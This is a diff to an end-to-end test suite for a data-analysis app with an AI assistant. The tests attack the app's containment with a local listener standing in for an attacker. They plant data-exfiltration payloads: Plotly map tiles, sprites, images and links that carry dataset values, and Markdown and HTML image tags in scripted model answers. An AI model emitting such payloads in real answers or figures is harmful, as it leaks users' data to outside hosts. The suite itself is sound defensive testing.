@@ -1,13 +1,16 @@
 /**
  * Containment (issue #11), attacked as an adversary would: a local HTTP listener stands in for
  * the attacker's server, and every attack runs from the Python console, the SQL console and a
- * scripted model's tool calls, with "No raw rows" off and on. The listener must receive nothing,
+ * scripted model's tool calls, with "No raw rows" off and on; figures, exports and links in
+ * answers (issue #21) too. The listener must receive nothing,
  * no dataset may change without the user's confirmation, the key must be in no storage, and the
  * app must keep working afterwards.
  */
+import { readFileSync } from 'node:fs';
 import { createServer, type Server } from 'node:http';
 import type { AddressInfo } from 'node:net';
-import type { Page } from '@playwright/test';
+import type { Page, Request } from '@playwright/test';
+import { marked, type Token } from 'marked';
 import { expect, sharedApp, test } from './fixtures';
 import { ask, chat, configureEndpoint, expectIdle, useMockLlm } from './support/mockLlm';
 import { pythonConsole } from './support/pythonConsole';
@@ -40,6 +43,15 @@ async function penguinsUnchanged(page: Page): Promise<void> {
   expect(await app.scalar('SELECT count(*) FROM penguins')).toBe('344');
   expect(await app.datasetNames()).toContain('penguins');
   void page;
+}
+
+/** What a Markdown viewer would load on opening: images not inline, and raw HTML (judged by marked's own tokens). */
+function fetchesOnOpen(markdown: string): boolean {
+  let found = false;
+  marked.walkTokens(marked.lexer(markdown), (t: Token) => {
+    if (t.type === 'html' || (t.type === 'image' && !/^data:image\//i.test(t.href as string))) found = true;
+  });
+  return found;
 }
 
 /** Waits for stray requests (timers, image loads) before counting. */
@@ -181,6 +193,164 @@ result = out
       await expectNoHits(page);
     });
   }
+
+  test('figures from Python fetch nothing: map style objects, tile layers, images, geojson, links; geo maps come from the app', async () => {
+    const app = shared();
+    const page = app.page;
+    const appOrigin = new URL(page.url()).origin;
+    const foreign: string[] = [];
+    const topojson: string[] = [];
+    const onRequest = (r: Request) => {
+      const u = new URL(r.url());
+      if (/^https?:$/.test(u.protocol) && u.origin !== appOrigin) foreign.push(r.url());
+      if (u.origin === appOrigin && u.pathname.includes('/topojson/')) topojson.push(u.pathname);
+    };
+    page.on('request', onRequest);
+    const py = await pythonConsole(page);
+    const U = JSON.stringify(url);
+    // The forms of issue 21: a style object (sprite, glyphs, tiles), layers as lists of tile URLs.
+    await py.exec(`
+U = ${U}
+rows = "Adelie,Gentoo,Chinstrap"
+fig = {
+  "data": [{"type": "scattermap", "lat": [48.8, 40.7], "lon": [2.3, -74], "mode": "markers+text", "text": ["a", "b"]}],
+  "layout": {
+    "map": {
+      "style": {"version": 8, "sprite": U + "/sprite?d=" + rows, "glyphs": U + "/glyphs/{fontstack}/{range}.pbf?d=" + rows,
+                "sources": {"t": {"type": "raster", "tiles": [U + "/style-tiles/{z}/{x}/{y}.png?d=" + rows], "tileSize": 256}},
+                "layers": [{"id": "t", "type": "raster", "source": "t"}]},
+      "layers": [{"sourcetype": "raster", "source": [U + "/layer-tiles/{z}/{x}/{y}.png?d=" + rows], "below": "traces"},
+                 {"sourcetype": "vector", "source": [U + "/vector/{z}/{x}/{y}.pbf"], "sourcelayer": "x", "type": "line"},
+                 {"sourcetype": "image", "source": U + "/overlay.png", "coordinates": [[0, 1], [1, 1], [1, 0], [0, 0]]}],
+      "center": {"lat": 45, "lon": -30}, "zoom": 1},
+    "images": [{"source": U + "/logo.png?d=" + rows, "xref": "paper", "yref": "paper", "x": 0, "y": 1, "sizex": 0.2, "sizey": 0.2}]
+  },
+  "config": {"topojsonURL": U + "/topo/", "mapboxAccessToken": "pk.x"}
+}
+`);
+    await expect(py.panel.getByRole('figure').last()).toBeVisible();
+    // A geo chart, a choropleth with a geojson URL, and links in text and templates.
+    await py.exec(`
+U = ${U}
+fig = {
+  "data": [
+    {"type": "choropleth", "locations": ["FRA", "USA", "BRA"], "z": [1, 2, 3], "geo": "geo"},
+    {"type": "choropleth", "geojson": U + "/regions.geojson", "locations": ["a"], "z": [1], "locationmode": "geojson-id", "geo": "geo2"},
+    {"type": "bar", "x": ['<a href="' + U + '/bar-link">Adelie</a>'], "y": [1], "texttemplate": '<a href="' + U + '/tt?d=%{x}">%{y}</a>', "textposition": "inside", "xaxis": "x", "yaxis": "y"}
+  ],
+  "layout": {
+    "geo": {"domain": {"x": [0, 0.45], "y": [0.5, 1]}, "showcountries": True},
+    "geo2": {"domain": {"x": [0.55, 1], "y": [0.5, 1]}},
+    "xaxis": {"domain": [0, 1]}, "yaxis": {"domain": [0, 0.4]},
+    "title": {"text": '<a href="' + U + '/title">Mass</a>'},
+    "annotations": [{"text": '<a href="' + U + '/annotation">see</a>', "x": 0, "y": 1, "xref": "paper", "yref": "paper"}]
+  }
+}
+`);
+    const geoChart = py.panel.getByRole('figure').last();
+    await expect(geoChart).toBeVisible();
+    // The world map drew (countries filled) from the app's own copy, and the chart holds no link.
+    await expect(geoChart.locator('path.choroplethlocation').first()).toBeAttached({ timeout: 30_000 });
+    expect(topojson.some((p) => p.endsWith('/topojson/world_110m.json'))).toBe(true);
+    expect(await geoChart.evaluate((el) => el.querySelectorAll('a').length)).toBe(0);
+    await expectNoHits(page);
+    page.off('request', onRequest);
+    expect(foreign).toEqual([]);
+  });
+
+  test('a link in an answer opens only after a confirmation that names its host', async () => {
+    const app = shared();
+    const page = app.page;
+    await mock.reset();
+    await configureEndpoint(page, mock, { key: KEY });
+    const target = `${url}/link?d=Adelie,39.1,181`;
+    await mock.script([{ type: 'text', content: `See [the details](${target}).` }]);
+    await page.getByRole('button', { name: 'New conversation' }).click();
+    await ask(page, 'Where are the details?');
+    await expectIdle(page);
+    const answer = chat(page).answers.last();
+    const link = answer.getByRole('link', { name: 'the details' });
+    await expect(link).toBeVisible();
+    // The whole address is on screen before any click.
+    await expect(answer).toContainText(`(${target})`);
+    const popups: string[] = [];
+    const onPage = (p: Page) => popups.push(p.url());
+    page.context().on('page', onPage);
+    const host = new URL(url).host;
+    for (const click of [() => link.click(), () => link.click({ button: 'middle' }), () => link.press('Enter')]) {
+      await click();
+      const dialog = page.getByRole('dialog', { name: `Open a link to ${host}?` });
+      await expect(dialog).toBeVisible();
+      await expect(dialog).toContainText(target);
+      await dialog.getByRole('button', { name: 'Cancel' }).click();
+      await expect(dialog).toBeHidden();
+    }
+    page.context().off('page', onPage);
+    expect(popups).toEqual([]);
+    await expectNoHits(page);
+  });
+
+  test('exports hold no image or figure attribute that would fetch when the file is opened', async ({ browser }) => {
+    test.setTimeout(240_000);
+    const app = shared();
+    const page = app.page;
+    await mock.reset();
+    await configureEndpoint(page, mock, { key: KEY });
+    const figCode = [
+      `U = ${JSON.stringify(url)}`,
+      'fig = {"data": [{"type": "scattermap", "lat": [1], "lon": [2]}, {"type": "choropleth", "geojson": U + "/nb-geojson", "locations": ["a"], "z": [1]}],',
+      '       "layout": {"map": {"style": {"sprite": U + "/nb-sprite", "sources": {"t": {"type": "raster", "tiles": [U + "/nb-tiles/{z}"]}}}, "layers": [{"sourcetype": "raster", "source": [U + "/nb-layer/{z}"]}]},',
+      '                  "images": [{"source": U + "/nb-image.png"}], "title": {"text": "<a href=\\"" + U + "/nb-title\\">t</a>"}}}',
+    ].join('\n');
+    // The five forms the old regex missed, and HTML and nested forms besides.
+    const answer = [
+      `Five forms: ![a [b] c](${url}/md-brackets.png) and ![t](${url}/md-title.png (a title)) and ![ref] and`,
+      `\\\`<img src="${url}/md-backticks.png">\\\` and ~~~<img src="${url}/md-tildes.png">~~~.`,
+      '',
+      `[![badge](${url}/md-nested.png)](https://example.com) <img src=${url}/md-html.png>`,
+      '',
+      `| a |\n| --- |\n| ![cell](${url}/md-cell.png) |`,
+      '',
+      `[ref]: ${url}/md-ref.png`,
+    ].join('\n');
+    await mock.script([
+      { type: 'tool_calls', calls: [{ name: 'run_python', arguments: { code: figCode } }] },
+      { type: 'text', content: answer },
+      { type: 'structured', when: 'validation_report', value: { is_valid: true, issues: [], suggestions: [], confidence: 0.5 } },
+    ]);
+    await page.getByRole('button', { name: 'New conversation' }).click();
+    await ask(page, 'Export this.');
+    await expectIdle(page);
+    await expect(chat(page).answers.last()).toContainText('Five forms');
+
+    const exported = async (item: string) => {
+      await page.getByRole('button', { name: 'Export', exact: true }).click();
+      const menu = page.getByRole('menu');
+      const [download] = await Promise.all([page.waitForEvent('download', { timeout: 60_000 }), menu.getByRole('menuitem', { name: item }).click()]);
+      return readFileSync(await download.path(), 'utf8');
+    };
+    const markdown = await exported('Markdown report');
+    const notebook = JSON.parse(await exported('Notebook (.ipynb)')) as { cells: { cell_type: string; source: string[]; outputs?: { data?: Record<string, unknown> }[] }[] };
+    const html = await exported('HTML report');
+
+    expect(fetchesOnOpen(markdown)).toBe(false);
+    const markdownCells = notebook.cells.filter((c) => c.cell_type === 'markdown').map((c) => c.source.join(''));
+    for (const cell of markdownCells) expect(fetchesOnOpen(cell), cell).toBe(false);
+    const figures = notebook.cells.flatMap((c) => c.outputs ?? []).flatMap((o) => (o.data?.['application/vnd.plotly.v1+json'] ? [o.data['application/vnd.plotly.v1+json']] : []));
+    expect(figures.length).toBeGreaterThan(0);
+    expect(JSON.stringify(figures)).not.toContain(new URL(url).host);
+
+    // Opened as a viewer would open them: rendered by a Markdown parser, or as the HTML file itself.
+    const viewer = await browser.newPage();
+    try {
+      for (const doc of [marked.parse(markdown) as string, ...markdownCells.map((c) => marked.parse(c) as string), html]) {
+        await viewer.setContent(doc);
+      }
+      await expectNoHits(viewer);
+    } finally {
+      await viewer.close();
+    }
+  });
 
   test('Cancel stops a long DuckDB query and the console answers at once afterwards', async () => {
     const app = shared();
